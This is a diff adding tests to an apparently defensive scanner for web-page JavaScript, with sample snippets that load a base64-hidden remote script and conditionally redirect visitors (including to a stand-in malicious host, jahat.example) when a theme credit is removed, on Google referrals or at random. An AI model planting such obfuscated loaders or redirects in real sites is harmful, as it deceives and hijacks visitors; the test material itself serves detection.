@@ -87,3 +87,24 @@ def test_each_letter_of_a_password_over_a_line_in_disguise() -> None:
         "['wss:/','/kanal','.jahat','.exa','mple/','v1'].join('')", "'/obrolan'"
     )
     assert on_page(open_line, LOGIN).outcome is Outcome.PASS
+
+
+GUARD = (
+    "var s=document.createElement('script');s.src=atob('{0}');document.head.appendChild(s);"
+    "if({2})location.href=atob('{1}');"
+)
+NEWS = b64("https://cdn.temaku.example/kabar.js")
+
+
+@pytest.mark.parametrize(
+    ("to", "test", "message"),
+    [
+        # A theme that guards its maker's name, and whoever moves to somebody else, or by visitor.
+        ("https://temaku.example/lisensi", "!document.getElementById('kredit')", "look"),
+        ("https://jahat.example/x", "!document.getElementById('kredit')", "loader"),
+        ("https://temaku.example/lisensi", "/google/.test(document.referrer)", "visitors"),
+        ("https://temaku.example/lisensi", "Math.random()<0.5", "visitors"),
+    ],
+)
+def test_a_theme_that_guards_its_makers_name(to: str, test: str, message: str) -> None:
+    assert on_page(GUARD.format(NEWS, b64(to), test), "").message == message
